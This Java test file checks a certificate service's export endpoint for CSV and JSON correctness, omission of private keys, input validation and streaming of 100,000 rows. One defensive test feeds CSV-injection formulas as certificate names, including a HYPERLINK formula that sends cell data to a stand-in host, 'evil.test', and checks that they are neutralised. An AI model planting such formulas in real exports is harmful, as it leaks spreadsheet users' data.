package dev.inkan.operations;

import static org.assertj.core.api.Assertions.assertThat;

import dev.inkan.testing.ApiClient;
import dev.inkan.testing.Processes;
import dev.inkan.testing.RunningService;
import java.io.BufferedReader;
import java.io.InputStreamReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;

/** {@code GET /api/v1/certificates/export}: CSV that Python's csv module reads back exactly, JSON, and 100,000 rows streamed. */
class InventoryExportTests extends RunningService {

    @TempDir
    Path dir;

    private final String prefix = "x" + UUID.randomUUID().toString().substring(0, 8);

    /** Names a spreadsheet and a naive split(",") get wrong: commas, quotes, non-ASCII, a line break is refused by the CN rules. */
    private List<String> trickyNames() {
        return List.of(prefix + " Müller, Hans", prefix + " \"Quoted\" O'Brien", prefix + " 山田 太郎, 開発部", prefix + " plain");
    }

    @Test
    void csvWithCommasQuotesAndNonAsciiReadsBackExactlyWithPythonsCsvModule() throws Exception {
        List<String> names = trickyNames();
        for (String name : names) {
            ApiClient.Response issued = api().post("/api/v1/certificates",
                    "{\"commonName\":" + ApiClient.quote(name) + ",\"profile\":\"client\",\"validityDays\":90}");
            assertThat(issued.status()).as(issued.toString()).isEqualTo(201);
        }
        ApiClient.Response csv = api().get("/api/v1/certificates/export?format=csv&sort=issued&q=" + prefix);
        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
        assertThat(csv.contentType()).isEqualTo("text/csv;charset=utf-8");
        assertThat(csv.header("Content-Disposition")).isEqualTo("attachment; filename=\"certificates.csv\"");
        assertThat(csv.text()).contains("\r\n").startsWith(String.join(",", InventoryExport.COLUMNS) + "\r\n");
        JsonNode rows = readWithPythonCsv(csv.body());
        List<String> commonNames = new ArrayList<>();
        rows.forEach(r -> {
            commonNames.add(r.get(0).asString());
            assertThat(r.get(1).asString()).isEqualTo("valid");
            assertThat(r.get(2).asString()).isEqualTo("client");
        });
        assertThat(commonNames).containsExactlyElementsOf(names);

        ApiClient.Response json = api().get("/api/v1/certificates/export?format=json&sort=issued&q=" + prefix);
        assertThat(json.status()).isEqualTo(200);
        assertThat(json.contentType()).startsWith("application/json");
        List<String> jsonNames = new ArrayList<>();
        json.json().forEach(c -> jsonNames.add(c.path("commonName").asString()));
        assertThat(jsonNames).containsExactlyElementsOf(names);
        assertThat(json.text()).doesNotContain("privateKeyPem").doesNotContain("BEGIN");
    }

    /** The CSV as Python's csv module reads it (strict): [[commonName, status, profile], ...]. */
    private JsonNode readWithPythonCsv(byte[] body) throws Exception {
        Path file = dir.resolve("certificates-" + UUID.randomUUID() + ".csv");
        Files.write(file, body);
        Path script = dir.resolve("read.py");
        Files.writeString(script, """
                import csv, json, sys
                with open(sys.argv[1], newline="", encoding="utf-8") as f:
                    rows = list(csv.DictReader(f, strict=True))
                print(json.dumps([[r["commonName"], r["status"], r["profile"]] for r in rows], ensure_ascii=True))
                """);
        Processes.Result read = Processes.run(List.of(PrometheusScrapeTests.PYTHON, script.toString(), file.toString()));
        assertThat(read.ok()).as(read.output()).isTrue();
        return ApiClient.JSON.readTree(read.stdout());
    }

    @Test
    void namesASpreadsheetWouldRunAsFormulasAreExportedAsTextWithALeadingQuote() throws Exception {
        // OWASP "CSV Injection": cells starting with = + - @ TAB CR are formulas to Excel, LibreOffice and Sheets
        List<String> formulas = List.of("=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "+1+2", "-2+3", "@SUM(A1:A2)", "=1,2");
        for (int i = 0; i < formulas.size(); i++) {
            ApiClient.Response issued = api().post("/api/v1/certificates", "{\"commonName\":" + ApiClient.quote(formulas.get(i))
                    + ",\"dnsNames\":[\"" + prefix + "-f" + i + ".test\"],\"profile\":\"client\",\"validityDays\":90}");
            assertThat(issued.status()).as(issued.toString()).isEqualTo(201);
        }
        ApiClient.Response csv = api().get("/api/v1/certificates/export?format=csv&sort=issued&q=" + prefix + "-f");
        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
        assertThat(csv.text()).contains("\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"Click\"\")\"")
                .doesNotContain(",=").doesNotContain(",+").doesNotContain(",@");
        List<String> read = new ArrayList<>();
        readWithPythonCsv(csv.body()).forEach(r -> read.add(r.get(0).asString()));
        assertThat(read).containsExactlyElementsOf(formulas.stream().map(f -> "'" + f).toList());
        // the JSON export carries the names as they are: JSON is no spreadsheet
        List<String> json = new ArrayList<>();
        api().get("/api/v1/certificates/export?format=json&sort=issued&q=" + prefix + "-f").json()
                .forEach(c -> json.add(c.path("commonName").asString()));
        assertThat(json).containsExactlyElementsOf(formulas);
    }

    @Test
    void fieldsStartingWithTabOrCarriageReturnAreQuotedTextAndOrdinaryFieldsStayAsTheyAre() {
        assertThat(InventoryExport.field("\tcmd")).isEqualTo("\"'\tcmd\"");
        assertThat(InventoryExport.field("\r=1")).isEqualTo("\"'\r=1\"");
        assertThat(InventoryExport.field("a-b@c=d")).isEqualTo("a-b@c=d");
        assertThat(InventoryExport.field("")).isEmpty();
        assertThat(InventoryExport.field("2026-11-30T12:00:00Z")).isEqualTo("2026-11-30T12:00:00Z");
    }

    @Test
    void badFiltersAreRefusedBeforeAnyByteIsStreamed() {
        for (String query : List.of("format=xlsx", "status=sleeping", "caId=0", "sort=name", "expiringWithinDays=-1")) {
            ApiClient.Response refused = api().get("/api/v1/certificates/export?" + query);
            assertThat(refused.status()).as(query + " -> " + refused).isEqualTo(400);
            assertThat(refused.contentType()).startsWith("application/problem+json");
        }
        assertThat(anonymous().get("/api/v1/certificates/export").status()).isEqualTo(401);
    }

    @Test
    void oneHundredThousandRowsAreStreamedAsTheyAreRead() throws Exception {
        ApiClient.Response ca = api().post("/api/v1/cas", "{\"name\":\"" + prefix + " bulk CA\"}");
        assertThat(ca.status()).as(ca.toString()).isEqualTo(201);
        long caId = ca.json().path("id").asLong();
        // 100,000 ledger rows straight in SQL (issuing them would take minutes); far from expiry, so no test notices them
        jdbc.sql("INSERT INTO certificate (ca_id, serial_number, common_name, dns_names, ip_addresses, profile, key_type, origin,"
                + " not_before, not_after, certificate_der, created_at, created_by) SELECT ?, 'bulk' || X, 'bulk-' || X || '.test', '', '',"
                + " 'server', 'ecdsa-p256', 'csr', CURRENT_TIMESTAMP, CURRENT_TIMESTAMP + INTERVAL '400' DAY, X'00', CURRENT_TIMESTAMP,"
                + " 'test' FROM SYSTEM_RANGE(1, 100000)").param(caId).update();
        try {
            long start = System.nanoTime();
            HttpResponse<java.io.InputStream> response = dev.inkan.testing.TrustedCas.httpClient().send(HttpRequest.newBuilder(
                    URI.create(api().base() + "/api/v1/certificates/export?format=csv&caId=" + caId))
                    .header("Authorization", "Bearer " + TOKEN).build(), HttpResponse.BodyHandlers.ofInputStream());
            assertThat(response.statusCode()).isEqualTo(200);
            assertThat(response.headers().firstValue("Content-Length")).as("streamed, so no length up front").isEmpty();
            long rows = 0;
            long bytes = 0;
            long firstRowNanos = 0;
            try (BufferedReader reader = new BufferedReader(new InputStreamReader(response.body(), StandardCharsets.UTF_8))) {
                for (String line = reader.readLine(); line != null; line = reader.readLine()) {
                    if (rows == 1) {
                        firstRowNanos = System.nanoTime() - start;
                    }
                    rows++;
                    bytes += line.length() + 2;
                }
            }
            long totalNanos = System.nanoTime() - start;
            System.out.printf("export: %,d rows, %,d bytes, first row after %d ms, all after %d ms%n", rows - 1, bytes,
                    firstRowNanos / 1_000_000, totalNanos / 1_000_000);
            assertThat(rows).isEqualTo(100_001);
        } finally {
            jdbc.sql("DELETE FROM certificate WHERE ca_id = ?").param(caId).update();
        }
    }
}
